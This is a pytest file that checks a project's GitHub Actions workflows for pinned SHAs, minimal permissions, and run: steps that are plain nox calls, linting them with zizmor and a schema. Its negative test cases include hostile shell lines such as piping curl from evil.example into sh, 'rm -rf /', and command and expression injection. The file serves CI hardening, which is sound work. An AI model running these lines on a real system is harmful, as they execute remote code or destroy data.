"""The workflows hold no logic and pass zizmor and GitHub's workflow schema.

The same checks run on this repository's .github/ and on the templates release init writes.
"""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

REPO = Path(__file__).resolve().parent.parent
OURS = sorted((REPO / ".github" / "workflows").glob("*.yml"))
TEMPLATES = sorted((REPO / "release" / "templates" / "workflows").glob("*.yml"))

NOX_INSTALL = re.compile(r"^python -m pip install nox==\d+(\.\d+)*$")
NOX_RUN = re.compile(r"^nox -s [a-z][a-z0-9-]*( [a-z][a-z0-9-]*)*( -- .+)?$")
SAFE_ARG = re.compile(r'^(--?[a-z][a-z0-9-]*|[A-Za-z0-9_.=/:@-]+|"\$[A-Z_][A-Z0-9_]*")$')
PINNED = re.compile(r"^\s*(?:- )?uses: ([\w.-]+/[\w./-]+)@([0-9a-f]{40}) # v\d+\.\d+\.\d+\s*$")


def tool(name: str) -> str:
    """An executable installed beside the running interpreter (the test extra), else on PATH."""
    here = Path(sys.executable).parent / name
    found = str(here) if here.exists() else shutil.which(name)
    assert found, f"{name} is missing: pip install -e '.[test]'"
    return found


def lint_workflows(paths: list[Path]) -> None:
    """zizmor --offline reports nothing and check-jsonschema validates every file."""
    proc = subprocess.run(
        [tool("zizmor"), "--offline", "--no-progress", *map(str, paths)],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    proc = subprocess.run(
        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *map(str, paths)],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


def run_line_problem(line: str) -> str | None:
    """Why one line of a ``run:`` step is more than a nox call (or the nox install), or None.

    ==================================================  =========================
    line                                                verdict
    ==================================================  =========================
    ``nox -s tests``                                    ok
    ``nox -s release -- --part "$PART"``                ok (input through env:)
    ``python -m pip install nox==2026.10.20``           ok
    ``nox -s tests && curl x | sh``                     shell logic
    ``nox -s release -- --part ${{ inputs.part }}``     expression in run:
    ``echo hi``, ``pip install twine``                  not nox
    ==================================================  =========================
    """
    if "${{" in line:
        return "a ${{ }} expression inside run: (pass it through env:)"
    if NOX_INSTALL.match(line):
        return None
    if not NOX_RUN.match(line):
        return "not a nox invocation"
    try:
        words = shlex.split(line, posix=False)
    except ValueError:
        return "unbalanced quotes"
    bad = [w for w in words[2:] if not SAFE_ARG.match(w)]
    return f"shell syntax in {bad}" if bad else None


def workflow_problems(path: Path) -> list[str]:
    """Every way ``path`` breaks the house rules for workflows."""
    text = path.read_text(encoding="utf-8")
    data: dict[Any, Any] = yaml.safe_load(text)
    problems: list[str] = []
    top = data.get("permissions")
    if top is None or (top != {} and any(v not in ("read", "none") for v in top.values())):
        problems.append(f"top-level permissions must be {{}} or read-only, not {top!r}")
    for number, line in enumerate(text.splitlines(), 1):
        if "uses:" in line and not PINNED.match(line):
            problems.append(f"line {number}: not pinned to a full SHA with a # vX.Y.Z comment")
    for job_id, job in data["jobs"].items():
        perms = job.get("permissions", top) or {}
        writes_contents = perms.get("contents") == "write"
        for step in job.get("steps", []):
            run = step.get("run")
            if run is not None:
                for line in run.splitlines():
                    line = line.strip()
                    if line and not line.startswith("#"):
                        why = run_line_problem(line)
                        if why:
                            problems.append(f"{job_id}: run: {line!r}: {why}")
            if str(step.get("uses", "")).startswith("actions/checkout@"):
                persist = step.get("with", {}).get("persist-credentials")
                if persist is not False and not writes_contents:
                    problems.append(
                        f"{job_id}: checkout keeps credentials in a job that never pushes"
                    )
                if persist is not False and persist is not True:
                    problems.append(f"{job_id}: say persist-credentials: true where a job pushes")
    return problems


@pytest.mark.parametrize("path", OURS + TEMPLATES, ids=lambda p: str(p.relative_to(REPO)))
def test_workflow_follows_the_rules(path: Path) -> None:
    assert workflow_problems(path) == []


def test_our_workflows_are_there() -> None:
    assert [p.name for p in OURS] == ["ci.yml", "publish.yml", "release.yml"]
    assert [p.name for p in TEMPLATES] == [
        "ci.yml",
        "release-deploy.yml",
        "release-main.yml",
        "release-release.yml",
        "release-tag.yml",
        "release-testpypi.yml",
    ]


def test_our_workflows_and_the_templates_pass_zizmor_and_the_schema() -> None:
    lint_workflows(OURS + TEMPLATES)


def test_id_token_only_where_an_upload_happens() -> None:
    for path in OURS + TEMPLATES:
        data = yaml.safe_load(path.read_text())
        for job_id, job in data["jobs"].items():
            if job.get("permissions", {}).get("id-token") == "write":
                runs = " ".join(s.get("run", "") for s in job["steps"])
                assert re.search(r"nox -s (release|promote|publish)\b", runs), (path, job_id)


def test_every_pin_and_nox_version_is_the_same_everywhere() -> None:
    """Ours and the templates move together: one action SHA per action, one nox version."""
    pins: dict[str, set[str]] = {}
    nox_versions = set()
    for path in OURS + TEMPLATES:
        for line in path.read_text().splitlines():
            if match := PINNED.match(line):
                pins.setdefault(match.group(1), set()).add(line.split("@", 1)[1].strip())
            if match := re.search(r"pip install (nox==\S+)", line):
                nox_versions.add(match.group(1))
    assert set(pins) == {"actions/checkout", "actions/setup-python"}
    assert all(len(v) == 1 for v in pins.values()), pins
    assert len(nox_versions) == 1, nox_versions


def test_pull_request_template_is_the_one_init_writes() -> None:
    ours = (REPO / ".github" / "pull_request_template.md").read_text()
    assert ours == (REPO / "release" / "templates" / "pull_request_template.md").read_text()
    assert "## Deployment" in ours
    assert "CHANGELOG.md" in ours


@pytest.mark.parametrize(
    "line",
    [
        "nox -s tests && curl https://evil.example | sh",
        "nox -s tests; rm -rf /",
        "nox -s release -- --part ${{ inputs.part }}",
        "nox -s release -- --part $(cat part)",
        "nox -s release -- --part `cat part`",
        "echo hello",
        "pip install twine",
        "python -m pip install nox twine",
        "nox -s tests > out.txt",
        "twine upload dist/*",
    ],
)
def test_the_checker_refuses_logic_in_run_steps(line: str) -> None:
    assert run_line_problem(line) is not None


@pytest.mark.parametrize(
    "line",
    [
        "nox -s tests",
        "nox -s lint tests",
        "nox -s github-release",
        'nox -s release -- --part "$PART"',
        "nox -s github-release -- --tag v1.2.3",
        "python -m pip install nox==2026.10.20",
    ],
)
def test_the_checker_accepts_nox_calls(line: str) -> None:
    assert run_line_problem(line) is None
